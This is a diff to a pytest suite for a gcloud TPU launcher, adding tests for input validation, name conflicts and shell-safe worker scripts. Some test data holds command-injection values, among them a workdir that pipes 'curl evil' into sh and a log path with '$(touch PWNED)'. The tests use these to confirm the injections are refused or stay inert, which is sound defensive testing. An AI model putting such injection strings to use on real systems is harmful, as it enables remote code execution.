@@ -47,8 +47,9 @@ def test_every_gcloud_line_of_the_plans_parses(capsys, tmp_path):
     for name, flags in SLICES.items():
         plan = dry_run(capsys, "run", "experiments.quickstart", "train.steps=20", "--name", "t5-test",
                        "--project", "my-proj", "--skip-compile-check", "--dry-run", *flags)
-        assert plan[0].split()[1:4] == ["-m", "pip", "wheel"], plan[0]   # the local build step first
-        gcloud_lines = plan[1:]
+        assert " describe t5-test " in plan[0]                            # the name is free, first
+        assert plan[1].split()[1:4] == ["-m", "pip", "wheel"], plan[1]   # then the local build step
+        gcloud_lines = plan[2:]
         assert gcloud_lines and all(line.startswith("gcloud ") for line in gcloud_lines), plan
         tpu = parse_tpu_type(flags[1])
         create = gcloud_lines[0]
@@ -62,7 +63,7 @@ def test_every_gcloud_line_of_the_plans_parses(capsys, tmp_path):
             assert "delete" in gcloud_lines[-1]
         run = next(line for line in gcloud_lines if "python -m experiments.quickstart" in line)
         assert "--worker=all" in run and "workdir=gs://bkt/" in run and "train.steps=20" in run
-        lines += gcloud_lines
+        lines += [plan[0], *gcloud_lines]
     for action in ("status", "logs", "stop", "delete"):
         lines += dry_run(capsys, action, "--name", "t5-test", "--zone", "us-east5-a", "--project", "my-proj",
                          "--dry-run")
@@ -84,20 +85,34 @@ def test_a_misspelt_flag_is_what_the_parser_check_catches(tmp_path):
 
 # Bad input: a clear error (exit 2) and no gcloud command run ------------------------------------------
 
+V5E = ["--tpu", "v5e-8", "--zone", "us-west4-a", "--project", "p"]
 BAD = {
-    "unknown TPU type": (["--tpu", "v7x-99", "--zone", "us-east5-a", "--project", "p", "--workdir", "gs://b/r"],
+    "unknown TPU type": (["--tpu", "v7x-99", "--zone", "us-east5-a", "--project", "p", "--workdir", "gs://bkt/r"],
                          "not one this launcher knows"),
     "a size the generation lacks": (["--tpu", "v5p-12", "--zone", "us-east5-a", "--project", "p",
-                                     "--workdir", "gs://b/r"], "slices come in these sizes"),
-    "zone without the type": (["--tpu", "v4-32", "--zone", "us-east5-a", "--project", "p", "--workdir", "gs://b/r"],
+                                     "--workdir", "gs://bkt/r"], "slices come in these sizes"),
+    "zone without the type": (["--tpu", "v4-32", "--zone", "us-east5-a", "--project", "p", "--workdir", "gs://bkt/r"],
                               "does not offer v4"),
     "local workdir, multi-host": (["--tpu", "v5p-32", "--zone", "us-east5-a", "--project", "p",
                                    "--workdir", "/tmp/run"], "gs://BUCKET/RUN"),
-    "mesh vs chips": (["--tpu", "v5p-32", "--zone", "us-east5-a", "--project", "p", "--workdir", "gs://b/r",
+    "mesh vs chips": (["--tpu", "v5p-32", "--zone", "us-east5-a", "--project", "p", "--workdir", "gs://bkt/r",
                        "mesh.data=4", "mesh.fsdp=2"], "mesh does not match the slice (v5p-32 has 16 chips)"),
-    "no project, no gcloud default": (["--tpu", "v5e-8", "--zone", "us-west4-a", "--workdir", "gs://b/r"],
+    # The workdir: a valid Cloud Storage path, or refused with the rule it breaks.
+    "workdir: a one-letter bucket, with shell in the path": (V5E + ["--workdir", "gs://b/my run;curl evil|sh;"],
+                                                             "the bucket name 'b' is shorter than 3 characters"),
+    "workdir: capitals in the bucket": (V5E + ["--workdir", "gs://My_Bucket/run"], "has capital letters"),
+    "workdir: gs:/ for gs://": (V5E + ["--workdir", "gs:/my-bucket/run"], "gs://BUCKET/RUN"),
+    "workdir: a wildcard in the path": (V5E + ["--workdir", "gs://my-bucket/run*"], "characters ['*']"),
+    "a zone without '-' before its letter": (["--tpu", "v5e-8", "--zone", "us-east5a", "--project", "p",
+                                               "--workdir", "gs://bkt/r"], "the form is REGION-ZONE, e.g. us-east5-a"),
+    "a zone that is no Google Cloud zone": (["--tpu", "v5e-8", "--zone", "mars-1-a", "--project", "p",
+                                             "--workdir", "gs://bkt/r", "--any-zone"], "the form is REGION-ZONE"),
+    "no local workers": (["--local-pod", "0", "--workdir", "/tmp/run"], "--local-pod=0: it is the number of local"),
+    "no devices per local worker": (["--local-pod", "2", "--local-devices", "0", "--workdir", "/tmp/run"],
+                                    "--local-devices=0"),
+    "no project, no gcloud default": (["--tpu", "v5e-8", "--zone", "us-west4-a", "--workdir", "gs://bkt/r"],
                                       "no --project given"),
-    "no zone, no gcloud default": (["--tpu", "v5e-8", "--project", "p", "--workdir", "gs://b/r"],
+    "no zone, no gcloud default": (["--tpu", "v5e-8", "--project", "p", "--workdir", "gs://bkt/r"],
                                    "no --zone given"),
 }
 
@@ -136,6 +151,25 @@ def test_bad_input_is_refused_before_any_command(case, gcloud_spy):
     assert "+ " not in result.stderr  # the launcher echoes every command it runs
 
 
+@needs_gcloud
+def test_a_dry_run_needs_no_project_and_says_which_zones_it_did_not_check(capsys, monkeypatch, tmp_path):
+    monkeypatch.setenv("CLOUDSDK_CONFIG", str(tmp_path))   # a gcloud with no default project or zone
+    plan = dry_run(capsys, "run", "experiments.quickstart", "--name", "t5-test", "--tpu", "v5e-8", "--zone",
+                   "europe-west4-b", "--workdir", "gs://bkt/a", "--skip-compile-check", "--dry-run")
+    assert launcher.main(["status", "--name", "t5-test", "--zone", "europe-west4-b", "--dry-run"]) == 0
+    status, err = capsys.readouterr()   # (dry_run() has read the run's; status says the same)
+    gcloud_lines = [line for line in plan if line.startswith("gcloud compute")] + status.splitlines()
+    assert len(gcloud_lines) > 5 and all(line.endswith("--project=PROJECT_ID") for line in gcloud_lines), gcloud_lines
+    assert "the plan shows --project=PROJECT_ID; a real run needs --project=..." in err, err
+    # A well-formed zone outside the table is not judged, and the run says so; a malformed one is refused.
+    assert launcher.main(["run", "experiments.quickstart", "--name", "t5-test", "--tpu", "v5e-8", "--zone",
+                          "europe-west4-b", "--project", "p", "--workdir", "gs://bkt/a", "--skip-compile-check",
+                          "--dry-run"]) == 0
+    assert "note: --zone=europe-west4-b was not checked" in capsys.readouterr().err
+    assert launcher.main(["delete", "--name", "t5-test", "--zone", "us-east5a", "--project", "p", "--dry-run"]) == 2
+    assert "REGION-ZONE" in capsys.readouterr().err
+
+
 # The shell each worker runs ------------------------------------------------------------------------
 
 def test_the_worker_scripts_are_valid_shell_and_the_run_script_keeps_logs_and_exit_codes(tmp_path):
@@ -158,3 +192,80 @@ def test_the_worker_scripts_are_valid_shell_and_the_run_script_keeps_logs_and_ex
     assert len(copies) == 1 and copies[0].read_text() == log        # kept in the workdir too, named by host
     assert (home / "t5like" / "train.pid").read_text().strip().isdigit()
     assert subprocess.run(["bash", "-c", gcloud.stop_script()], env=env).returncode == 0   # nothing left to stop
+
+
+# A slice this launcher did not make is never deleted ---------------------------------------------------
+
+STUB = """#!/bin/sh
+echo "$*" >> {log}
+case "$*" in
+  *" describe "*) if [ -n "$NAME_TAKEN" ]; then echo READY; exit 0; fi
+                  echo "ERROR: (gcloud.compute.tpus.tpu-vm.describe) NOT_FOUND: t" >&2; exit 1;;
+  *" create "*) echo "ERROR: (gcloud.compute.tpus.tpu-vm.create) ALREADY_EXISTS: t already exists" >&2; exit 1;;
+esac
+exit 0
+"""
+
+
+@pytest.mark.parametrize("taken_when,queued", [("before the run", False), ("between the check and the create", True)])
+def test_a_name_in_use_is_refused_and_the_other_slice_is_not_deleted(taken_when, queued, tmp_path):
+    """ALREADY_EXISTS cannot come from the real gcloud offline: a stub plays the cloud, where slice `t` is
+    another run's. Seen before the run: refused up front (exit 2); taken in between: create fails (exit 1).
+    Either way no delete."""
+    log = tmp_path / "calls.log"
+    (tmp_path / "bin").mkdir()
+    stub = tmp_path / "bin" / "gcloud"
+    stub.write_text(STUB.format(log=shlex.quote(str(log))))
+    stub.chmod(0o755)
+    env = {**os.environ, "PATH": f"{tmp_path / 'bin'}{os.pathsep}{os.environ['PATH']}", "PYTHONPATH": ROOT,
+           "NAME_TAKEN": "1" if taken_when == "before the run" else ""}
+    result = subprocess.run([sys.executable, "-m", "launch.tpu", "run", "experiments.quickstart", "--tpu", "v5e-8",
+                             "--zone", "us-west4-a", "--project", "p", "--workdir", "gs://bkt/run", "--name", "t",
+                             "--skip-compile-check", "--logs", str(tmp_path / "logs"), "--max-restarts", "0",
+                             *(["--queued"] if queued else [])],
+                            env=env, capture_output=True, text=True, cwd=ROOT, timeout=300)
+    calls = log.read_text().splitlines()
+    assert not any(" delete " in c for c in calls), calls
+    if taken_when == "before the run":
+        assert result.returncode == 2, result.stderr
+        assert "named 't' already exists" in result.stderr and "Pick another --name" in result.stderr
+        assert not any(" create " in c for c in calls), calls
+    else:
+        assert result.returncode == 1, result.stderr
+        assert any(" create " in c for c in calls) and "nothing was deleted" in result.stderr, result.stderr
+
+
+@needs_gcloud
+@pytest.mark.parametrize("where", ["local", "gs"])
+def test_the_workdir_in_the_worker_script_is_a_path_never_shell(where, tmp_path):
+    """Spaces and shell in a (valid) workdir stay part of the path; a log copy that fails says so. The real
+    gcloud, with no account, is the copy that fails for gs://."""
+    from launch import gcloud
+    home = tmp_path / "home"
+    (home / "t5like").mkdir(parents=True)
+    os.symlink(os.path.dirname(os.path.dirname(sys.executable)), home / "t5like" / "venv")
+    log_dir = (f"{tmp_path}/my run;touch PWNED;$(touch PWNED2)/logs" if where == "local"
+               else "gs://my-bucket/my run;touch PWNED;$(touch PWNED2)/logs")
+    (tmp_path / "gcloud").mkdir()
+    env = {**os.environ, "HOME": str(home), "CLOUDSDK_CONFIG": str(tmp_path / "gcloud")}
+    script = gcloud.run_script(["python", "-c", "print('step 1')"], log_dir)
+    result = subprocess.run(["bash", "-c", script], env=env, capture_output=True, text=True, cwd=tmp_path,
+                            timeout=120)
+    assert result.returncode == 0, result.stderr
+    assert not [p for p in (home / "t5like", tmp_path) for name in ("PWNED", "PWNED2") if (p / name).exists()]
+    if where == "local":
+        copies = list((tmp_path / "my run;touch PWNED;$(touch PWNED2)" / "logs").iterdir())
+        assert [c.read_text() for c in copies] == ["step 1\n"]
+        assert result.stderr == ""
+    else:
+        assert f"could not copy worker.log to {log_dir}/" in result.stderr, result.stderr
+
+
+def test_launch_compile_takes_overrides_after_the_topology():
+    """As its docstring shows (`... size=tiny --topology v5e-4 train.batch_size=64`); an unknown type is
+    refused before any config is loaded, so this compiles nothing."""
+    result = subprocess.run([sys.executable, "-m", "launch.compile", "experiments.gpt2_small", "size=tiny",
+                             "--topology", "v7x-1", "train.batch_size=64"], env={**os.environ, "PYTHONPATH": ROOT},
+                            capture_output=True, text=True, cwd=ROOT, timeout=120)
+    assert result.returncode == 2 and "error: TPU type 'v7x-1' is not one this launcher knows" in result.stderr, \
+        result.stderr
